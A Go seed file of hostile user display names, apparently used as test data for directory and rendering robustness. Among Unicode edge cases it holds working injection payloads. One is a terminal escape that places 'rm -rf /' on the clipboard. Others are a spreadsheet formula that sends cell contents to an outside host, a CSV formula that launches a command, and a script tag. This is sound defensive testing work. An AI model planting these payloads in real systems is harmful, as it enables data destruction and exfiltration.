package seed

import "strings"

// hostileName is a display name as an attacker, or a careless import, leaves
// it in a directory.
type hostileName struct{ displayName, jobTitle string }

// hostileNames are given to fixed users, so that every tenant of 160 users or
// more holds all of them.
func hostileNames() map[int]hostileName {
	names := []hostileName{
		{displayName: "\x1b[31mAda\x1b[0m Alert"},                          // colour
		{displayName: "Copy \x1b]52;c;cm0gLXJmIC8K\x07Cat"},                // OSC 52 writes the clipboard
		{displayName: "\x1b]0;owned\x07Titus Titlebar"},                    // sets the window's title
		{displayName: "\x1b[2J\x1b[HClara Screen"},                         // clears the screen
		{displayName: "Invoice \u202egnp.exe"},                             // right-to-left override
		{displayName: "\u2067Isolde \u2066Isolate"},                        // isolates that are never closed
		{displayName: "Newt\nLine\r\nBreak"},                               // line breaks
		{displayName: "Zero\u200bWidth\u200d\u2060\ufeffJoiner"},           // invisible characters
		{displayName: `=HYPERLINK("https://example.net/?x="&A1,"Click")`},  // a formula
		{displayName: "@SUM(1+1)*cmd|' /C calc'!A0", jobTitle: "-2+3+cmd"}, // formulas that do not begin with =
		{displayName: "👩‍👩‍👧‍👦 Families 🏳️‍🌈 Council"},                     // emoji of several code points
		{displayName: strings.Repeat("Long", 64)},                          // 256, the most that Entra keeps
		{displayName: "Z\u0351\u036b\u0343a\u0329\u0328l\u0332g\u0316o"},   // stacked combining marks
		{displayName: "\u009b31mCecil One"},                                // a C1 control sequence introducer
		{displayName: "Tab\tTabitha\x00\x7f\b\b\b"},                        // other control characters
		{displayName: `"Quoted", 'Quincy'; -- <script>`},                   // quotes of every kind
		{displayName: "\u00a0 \u3000"},                                     // nothing but spaces
	}
	const first, step = 40, 7
	at := make(map[int]hostileName, len(names))
	for i, n := range names {
		at[first+i*step] = n
	}
	return at
}
